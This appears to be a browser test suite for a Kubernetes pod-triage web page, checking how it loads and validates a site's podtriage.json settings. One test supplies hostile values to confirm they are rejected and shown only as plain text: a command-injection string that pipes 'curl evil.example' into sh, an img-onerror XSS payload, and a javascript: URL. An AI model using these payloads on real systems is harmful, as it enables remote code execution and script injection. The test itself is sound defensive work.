// What a site sets in podtriage.json: taken where it is right, told and left out where it is not.
import assert from "node:assert/strict";
import { readFile, writeFile, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { faults } from "../axe.mjs";
import { accompanied, open, paste, repoFile, sample, verdict } from "../browser.mjs";

/** The example that docs/configuration.md shows. */
async function example() {
  const found = /read it from here:\n\n```json\n([\s\S]*?)\n```/.exec(await repoFile("docs/configuration.md"));
  return found[1];
}

/** Opens the page of a site that sets this. */
async function openConfigured(page, site, text) {
  await page.route("**/podtriage.json", (route) => route.fulfill({ contentType: "application/json", body: text }));
  await open(page, site.url);
  await accompanied(page);
}

const problems = (page) => page.locator(".site-problems p").allInnerTexts();
const commands = (page) => page.locator("code[data-command]").allInnerTexts();

const PENDING = `Name:         llm-0
Namespace:    ml
Status:       Pending
Events:
  Type     Reason            Age   From               Message
  ----     ------            ----  ----               -------
  Warning  FailedScheduling  10s   default-scheduler  0/3 nodes are available: 3 Insufficient acme.example/lease. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.
`;

const looks = ["light", "dark"].flatMap((colorScheme) => [1440, 390].map((width) => ({
  name: `axe finds nothing on a configured page, nor on one with problems, ${colorScheme}, ${width} pixels`,
  context: { colorScheme, viewport: { width, height: 844 } },
  async run({ page, site }) {
    await openConfigured(page, site, (await example()).replace('"name"', '"nmae": 1, "name"'));
    await paste(page, await sample("image-pull"));
    await page.locator(".runbook a").waitFor();
    await page.locator(".site-problems").waitFor();
    assert.deepEqual(await faults(page), []);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(wide <= width, `${wide} wide on ${width}`);
  },
})));

export default [
  {
    name: "what is shipped sets nothing and has no problem",
    async run({ page, site }) {
      assert.deepEqual(JSON.parse(await (await fetch(`${site.url}podtriage.json`)).text()), {});
      await open(page, site.url);
      await accompanied(page);
      await paste(page, await sample("image-pull"));
      assert.ok((await commands(page)).some((command) => command.startsWith("kubectl ")));
      assert.equal(await page.locator(".site, .site-problems, .runbook").count(), 0);
    },
  },
  {
    name: "the documented example does what the documentation says",
    async run({ page, site }) {
      await openConfigured(page, site, await example());
      assert.deepEqual(await problems(page), []);
      assert.deepEqual(await page.locator("footer.site p").allInnerTexts(), ["GPU platform", "Contact: Ask in #gpu-platform, or page the on-call"]);
      await paste(page, await sample("image-pull"));
      assert.equal((await verdict(page)).cause, "image-pull");
      const link = page.locator(".runbook a");
      assert.equal(await link.getAttribute("href"), "https://wiki.example.com/runbooks/image-pull");
      assert.equal(await link.getAttribute("rel"), "noreferrer noopener");
      const offered = await commands(page);
      assert.ok(offered.length > 2 && offered.some((command) => command.startsWith("oc ")), offered.join("\n"));
      assert.ok(!offered.some((command) => /^kubectl /m.test(command)), offered.join("\n"));
      await paste(page, "INFO starting\nRuntimeError: ACME lease 17 expired on slot 3\n");
      assert.deepEqual(await verdict(page), { cause: "gpu-busy", certainty: "confirmed" });
      assert.match(await page.locator(".verdict h2").first().innerText(), /lease on the GPU ran out/);
      assert.match(await page.locator(".fixes").first().innerText(), /acme-lease renew/);
      assert.equal(await page.locator(".runbook a").count(), 0, "no runbook for this cause");
    },
  },
  {
    name: "a resource of the site's own is a GPU",
    async run({ page, site }) {
      await openConfigured(page, site, '{"gpuResources": ["acme.example/lease"]}');
      await paste(page, PENDING);
      assert.equal((await verdict(page)).cause, "insufficient-gpu");
      await page.unroute("**/podtriage.json");
      await open(page, site.url);
      await paste(page, PENDING);
      assert.equal((await verdict(page)).cause, "unschedulable");
    },
  },
  {
    name: "what is wrong is named by its key, is left out, and costs nothing else",
    async run({ page, site }) {
      await openConfigured(page, site, JSON.stringify({
        command: "oc; curl evil.example | sh",
        contact: "<img src=x onerror=alert(1)> ‮ right",
        name: ["x"],
        runbooks: { "image-pull": "javascript:alert(1)", "gpu-busy": "https://wiki.example.com/<b>" },
        gpuResources: "acme.example/lease",
        signatures: [{ id: "a", role: "cause", causes: ["gpu-busy"], title: "t", match: ["(unclosed"] }],
        "<b>key</b>": 1,
      }));
      const said = await problems(page);
      assert.match(said[0], /podtriage\.json/);
      for (const key of ["command", "name", "runbooks.image-pull", "gpuResources", "signatures[0].match", "<b>key</b>"]) {
        assert.equal(said.filter((line) => line.startsWith(`“${key}” `)).length, 1, `${key}: ${said.join("\n")}`);
      }
      assert.equal(await page.locator(".site-problems b, .site img").count(), 0, "text is no markup");
      assert.match(await page.locator("footer.site").innerText(), /<img src=x/);
      await paste(page, await sample("image-pull"));
      assert.equal((await verdict(page)).cause, "image-pull");
      assert.ok((await commands(page)).some((command) => command.startsWith("kubectl ")));
      assert.equal(await page.locator(".runbook a").count(), 0);
    },
  },
  {
    name: "a file that is no configuration is one sentence; a missing one is none",
    async run({ page, site }) {
      await openConfigured(page, site, '{"command": "oc"');
      assert.match((await problems(page)).join(" "), /not a JSON object/);
      await paste(page, await sample("oom-killed"));
      assert.deepEqual(await verdict(page), { cause: "host-memory-oom", certainty: "confirmed" });
      await page.unroute("**/podtriage.json");
      await page.route("**/podtriage.json", (route) => route.fulfill({ status: 404 }));
      await open(page, site.url);
      await accompanied(page);
      assert.deepEqual(await problems(page), []);
      await paste(page, await sample("oom-killed"));
      assert.deepEqual(await verdict(page), { cause: "host-memory-oom", certainty: "confirmed" });
    },
  },
  {
    name: "the report dialog's own worker knows the configuration too",
    async run({ page, site }) {
      await openConfigured(page, site, await example());
      await paste(page, "INFO starting\nRuntimeError: ACME lease 17 expired on slot 3\n");
      await page.locator("button.report").click();
      await page.locator("dialog .preview").waitFor();
      assert.match(await page.locator("dialog .preview").innerText(), /gpu-busy/);
    },
  },
  {
    name: "in the single file the configuration stands inline",
    async run({ context, page, file }) {
      const html = await readFile(fileURLToPath(file), "utf8");
      assert.doesNotMatch(html, /podtriage\.json"/, "it asks for none");
      const shown = /<script type="application\/json">.*<\/script>/.exec(await repoFile("docs/configuration.md"))[0];
      const folder = await mkdtemp(join(tmpdir(), "pod-triage-single-"));
      try {
        const own = join(folder, "podtriage.html");
        await writeFile(own, html.replace("</head>", () => `${shown}</head>`));
        await context.setOffline(true);
        await open(page, pathToFileURL(own).href);
        await accompanied(page);
        assert.deepEqual(await page.locator("footer.site p").allInnerTexts(), ["GPU platform"]);
        await paste(page, await sample("image-pull"));
        assert.ok((await commands(page)).some((command) => command.startsWith("oc ")));
      } finally {
        await rm(folder, { recursive: true, force: true });
      }
    },
  },
  ...looks,
];
